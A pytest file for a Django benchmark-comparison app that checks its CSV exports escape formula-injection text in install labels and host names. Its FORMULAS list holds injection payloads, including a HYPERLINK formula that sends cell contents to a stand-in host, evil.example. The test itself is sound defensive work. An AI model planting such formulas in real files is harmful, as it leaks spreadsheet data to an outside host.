"""CSV exports never hand a spreadsheet a formula: text that would start one (an install's label,
a host's name: "=HYPERLINK(…)", "+1", "@SUM(1)", a tab, a CR) is written with a leading quote, in
every export (the comparison page's, the API's, a shared comparison's), while numbers, negative
ones included, stay numbers."""

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from runs.compare.selectors.export import spreadsheet_text
from runs.models import Run, RunSample
from runs.tests.compare.test_shares import make_share
from runs.tests.conftest import ClientFactory
from runs.tests.factories import make_device, make_host, make_pg_install, make_run

pytestmark = pytest.mark.django_db

FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1", "-1+2", "@SUM(1)", "\tx", "\rx")


def runs_named(where: str) -> list[Run]:
    """A run per formula, each on its own install (labelled with it) or host (named with it); the
    first the fastest, so the others' differences are negative numbers."""
    runs, lab1 = [], make_host()
    device = make_device(lab1)
    for n, formula in enumerate(FORMULAS):
        if where == "host":
            host = make_host(name=formula, address=f"10.200.1.{n + 1}")
            run_on = (host, make_device(host), make_pg_install(host))
        else:
            run_on = (lab1, device, make_pg_install(lab1, label=formula, bin_dir=f"/opt/pg{n}/bin"))
        tps = 1000.0 - n * 100
        run = make_run(*run_on, steady_tps_mean=tps, tps=tps)
        RunSample.objects.bulk_create(RunSample(run=run, second=s, tps=tps, latency_ms=2.0) for s in (1, 2))
        runs.append(run)
    return runs


def table(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.content[:500]
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


def assert_every_formula_is_text(rows: list[dict[str, str]]) -> None:
    configurations = {row["configuration"] for row in rows}
    for formula in FORMULAS:
        assert [c for c in configurations if c.startswith(f"'{formula}")], (formula, configurations)
    assert all(c.startswith("'") for c in configurations), configurations


@pytest.mark.parametrize("where", ["install", "host"])
def test_every_csv_export_writes_names_that_start_a_formula_as_text(client_for: ClientFactory, where: str) -> None:
    runs = runs_named(where)
    params = {"runs": ",".join(str(run.pk) for run in runs)}
    vera = client_for("vera")
    shared = make_share(vera, kind="comparison", runs=params["runs"], baseline="0", title="formulas")

    exports = {
        "page summary": vera.get(reverse("compare-export-csv"), params),
        "page series": vera.get(reverse("compare-export-csv"), params | {"what": "series"}),
        "api summary": vera.get("/api/comparisons/summary/", params | {"file": "csv"}),
        "api series": vera.get("/api/comparisons/series/", params | {"file": "csv"}),
        "shared summary": Client().get(f"{shared}export.csv?what=summary"),
        "shared series": Client().get(f"{shared}export.csv?what=series"),
    }

    for name, answer in exports.items():
        rows = table(answer)
        assert len(rows) >= len(FORMULAS), name
        assert_every_formula_is_text(rows)
    slower = [row for row in table(exports["page summary"]) if row["difference_pct"]]
    assert slower and all(float(row["difference_pct"]) < 0 for row in slower)  # numbers, not '-10.0


def test_text_that_starts_a_formula_gets_a_quote_and_other_text_and_numbers_do_not() -> None:
    assert [spreadsheet_text(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert spreadsheet_text("lab1 · noatime") == "lab1 · noatime"
    assert spreadsheet_text("PostgreSQL 15.19, 8 kB pages") == "PostgreSQL 15.19, 8 kB pages"
